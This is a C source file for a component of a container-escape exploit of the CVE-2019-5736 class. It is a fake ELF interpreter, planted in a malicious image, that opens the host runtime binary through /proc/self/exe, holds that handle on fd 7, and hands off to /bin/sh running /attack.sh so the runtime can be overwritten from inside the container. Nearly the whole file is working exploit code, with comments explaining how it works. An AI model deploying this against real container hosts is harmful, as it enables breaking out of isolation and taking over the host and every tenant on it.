/* An ELF interpreter planted by a malicious image (CVE-2019-5736 class).
 *
 * When the container runs the host runtime's binary (its program is
 * /proc/self/exe, or a "#!/proc/self/exe" script), the kernel maps that binary
 * and hands control to the interpreter named in it, /lib64/ld-linux-x86-64.so.2,
 * taken from the container's root: this program. It never loads the runtime; it
 * keeps an O_PATH handle on /proc/self/exe as fd 7 and becomes /bin/sh running
 * /attack.sh, which tries to write through that handle once the runtime is gone.
 *
 * Built with gcc -static -nostdlib: no libc, whose start-up code would read the
 * runtime's program headers from the auxiliary vector.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

__attribute__((force_align_arg_pointer)) void _start(void)
{
    long fd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    if (fd >= 0 && fd != 7)
        sys3(SYS_dup2, fd, 7, 0);
    char *argv[] = {"sh", "/attack.sh", 0};
    char *envp[] = {"PATH=/bin", 0};
    sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    sys3(SYS_exit, 111, 0, 0);
    for (;;) {
    }
}
